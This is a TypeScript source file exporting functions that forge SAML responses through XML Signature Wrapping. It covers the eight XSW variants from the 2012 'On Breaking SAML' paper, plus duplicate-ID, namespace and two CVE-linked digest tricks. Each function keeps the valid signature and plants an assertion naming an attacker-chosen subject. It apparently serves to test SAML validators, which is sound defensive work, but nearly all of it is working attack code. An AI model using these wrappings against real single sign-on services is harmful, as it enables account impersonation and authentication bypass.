// The eight known ways to wrap a signed assertion (Somorovsky and others, "On Breaking SAML", 2012): what was signed stays in
// the document, where the signature finds it, and a forged assertion stands where a careless reader looks.

type Wrap = (xml: string, forgedSubject: string) => string

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<ds:Signature[\s\S]*<\/ds:Signature>/

function partsOf(xml: string, forgedSubject: string) {
  const assertion = ASSERTION.exec(xml)?.[0] ?? ''
  const signature = SIGNATURE.exec(assertion)?.[0] ?? ''
  if (!assertion || !signature) throw new Error('There is no signed assertion to wrap')
  const unsigned = assertion.replace(SIGNATURE, '')
  const forged = unsigned
    .replace(/ ID="[^"]*"/, ' ID="_forged"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${forgedSubject}`)
  return { assertion, signature, unsigned, forged }
}

const inside = (outer: string, what: string) => outer.replace('</saml:Assertion>', `${what}</saml:Assertion>`)
const after = (element: string, end: string, what: string) => element.replace(end, `${end}${what}`)

export const WRAPPINGS: Record<string, Wrap> = {
  // The signed response inside the signature of a forged one.
  'XSW 1': (xml, subject) => {
    const { assertion, signature, forged } = partsOf(xml, subject)
    const holder = signature.replace('</ds:Signature>', `<ds:Object>${xml}</ds:Object></ds:Signature>`)
    return xml.replace(assertion, after(forged, '</saml:Issuer>', holder))
  },
  // The signed response beside the signature of a forged one.
  'XSW 2': (xml, subject) => {
    const { assertion, signature, forged } = partsOf(xml, subject)
    return xml.replace(assertion, `${signature}${xml.replace(signature, '')}${forged}`)
  },
  // A forged assertion before the signed one.
  'XSW 3': (xml, subject) => {
    const { assertion, forged } = partsOf(xml, subject)
    return xml.replace(assertion, `${forged}${assertion}`)
  },
  // The signed assertion inside a forged one.
  'XSW 4': (xml, subject) => {
    const { assertion, forged } = partsOf(xml, subject)
    return xml.replace(assertion, inside(forged, assertion))
  },
  // A forged assertion with the signature, and the signed one beside it.
  'XSW 5': (xml, subject) => {
    const { assertion, signature, unsigned, forged } = partsOf(xml, subject)
    return xml.replace(assertion, `${after(forged, '</saml:Issuer>', signature)}${unsigned}`)
  },
  // A forged assertion with the signature, which holds the signed one.
  'XSW 6': (xml, subject) => {
    const { assertion, signature, unsigned, forged } = partsOf(xml, subject)
    const holder = signature.replace('</ds:Signature>', `<ds:Object>${unsigned}</ds:Object></ds:Signature>`)
    return xml.replace(assertion, after(forged, '</saml:Issuer>', holder))
  },
  // A forged assertion in an extension, whose shape nobody checks.
  'XSW 7': (xml, subject) => {
    const { assertion, forged } = partsOf(xml, subject)
    return xml.replace(assertion, `<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`)
  },
  // The signed assertion in an object of the signature that moved to a forged one.
  'XSW 8': (xml, subject) => {
    const { assertion, signature, unsigned, forged } = partsOf(xml, subject)
    const object = `<ds:Object><samlp:Extensions>${unsigned}</samlp:Extensions></ds:Object>`
    const holder = signature.replace('</ds:Signature>', `${object}</ds:Signature>`)
    return xml.replace(assertion, `${after(forged, '</saml:Issuer>', holder)}`)
  },
  // Both under one id, so that a reader may find either.
  'one id twice': (xml, subject) => {
    const { assertion, forged } = partsOf(xml, subject)
    const id = / ID="[^"]*"/.exec(assertion)?.[0] ?? ''
    return xml.replace(assertion, `${forged.replace(' ID="_forged"', id)}${assertion}`)
  },
  // Two that look like one, in another namespace.
  'another namespace': (xml, subject) => {
    const { assertion, forged } = partsOf(xml, subject)
    return xml.replace(
      assertion,
      `${forged.replaceAll('saml:', 'x:').replaceAll(':saml=', ':x=')}${assertion}`,
    )
  },
  // Two digests in one reference (CVE-2025-29775).
  'a comment in a digest': (xml, subject) => {
    const { assertion, signature } = partsOf(xml, subject)
    const forged = assertion.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${subject}`)
    return xml.replace(
      assertion,
      forged.replace(signature, signature.replace(/(<ds:DigestValue>)/, '$1<!--x-->')),
    )
  },
  // Two lists of what is signed (CVE-2025-29774).
  'two signed infos': (xml, subject) => {
    const { assertion, signature } = partsOf(xml, subject)
    const forged = assertion.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${subject}`)
    const info = /<ds:SignedInfo>[\s\S]*<\/ds:SignedInfo>/.exec(signature)?.[0] ?? ''
    const second = info.replace(/<ds:DigestValue>[^<]*/, '<ds:DigestValue>AAAA')
    return xml.replace(assertion, forged.replace(signature, signature.replace(info, `${second}${info}`)))
  },
}
